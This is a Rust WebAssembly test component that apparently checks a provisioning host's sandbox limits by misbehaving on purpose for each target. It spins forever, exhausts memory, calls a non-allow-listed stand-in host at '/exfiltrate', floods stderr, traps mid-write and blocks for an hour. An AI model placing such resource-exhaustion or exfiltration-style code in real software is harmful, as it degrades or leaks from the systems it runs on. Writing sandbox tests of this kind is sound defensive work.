//! A component with the real world's exports that misbehaves on purpose, one way per target:
//! * `azure-iot`: spins forever (CPU deadline);
//! * `aws-iot`: allocates until memory runs out (memory cap);
//! * `aws-cognito`: calls a host that is not on the allow-list;
//! * `aws-cognito-openid`: floods stderr (log budget);
//! * `arc`: writes a bundle, then traps mid-way (store consistency);
//! * `inventory`: blocks in a host call for an hour (wall-clock deadline);
//! * `userdata`: traps at once.

#![cfg(target_arch = "wasm32")]

mod bindings {
    wit_bindgen::generate!({
        path: "../../../wit",
        world: "soracom:krypton/krypton",
        generate_all,
    });
}

use bindings::exports::soracom::krypton::provisioning::Guest;
use bindings::soracom::krypton::secret_store;
use bindings::soracom::krypton::types::{
    ExportFile, ProvisionError, ProvisionReport, ProvisionRequest, Target,
};
use bindings::wasi::clocks::monotonic_clock;
use bindings::wasi::http::{outgoing_handler, types as http};

struct Hostile;

impl Guest for Hostile {
    fn provision(request: ProvisionRequest) -> Result<ProvisionReport, ProvisionError> {
        match request.target {
            Target::AzureIot => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            Target::AwsIot => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            Target::AwsCognito => {
                let req = http::OutgoingRequest::new(http::Fields::new());
                let _ = req.set_scheme(Some(&http::Scheme::Http));
                let _ = req.set_authority(Some("192.0.2.1:80"));
                let _ = req.set_path_with_query(Some("/exfiltrate"));
                let future = outgoing_handler::handle(req, None)
                    .map_err(|e| ProvisionError::Transport(format!("{e:?}")))?;
                loop {
                    if let Some(result) = future.get() {
                        return match result {
                            Ok(Ok(_)) => Err(ProvisionError::Transport("reached it".into())),
                            Ok(Err(code)) => Err(ProvisionError::Transport(format!("{code:?}"))),
                            Err(()) => Err(ProvisionError::Transport("taken".into())),
                        };
                    }
                    future.subscribe().block();
                }
            }
            Target::AwsCognitoOpenid => {
                let line = "x".repeat(1023);
                for _ in 0..2_000 {
                    eprintln!("{line}");
                }
                Err(ProvisionError::Unsupported("flooded stderr".into()))
            }
            Target::Arc => {
                secret_store::put("arc", br#"{"written":"before the trap"}"#)
                    .map_err(|_| ProvisionError::Storage("put".into()))?;
                panic!("trap in the middle of provisioning");
            }
            Target::Inventory => {
                monotonic_clock::subscribe_duration(3_600_000_000_000).block();
                Err(ProvisionError::Timeout("slept an hour".into()))
            }
            _ => panic!("trap at once"),
        }
    }

    fn status(_: Target) -> Result<Option<ProvisionReport>, ProvisionError> {
        Ok(None)
    }

    fn wireguard_config(_: Vec<String>) -> Result<String, ProvisionError> {
        Err(ProvisionError::Unsupported("hostile".into()))
    }

    fn render_export(
        _: Target,
        _: String,
        _: String,
        _: Vec<String>,
    ) -> Result<Vec<ExportFile>, ProvisionError> {
        Err(ProvisionError::Unsupported("hostile".into()))
    }

    fn version() -> (String, String) {
        ("hostile".into(), "soracom:krypton@0.1.0".into())
    }
}

bindings::export!(Hostile with_types_in bindings);
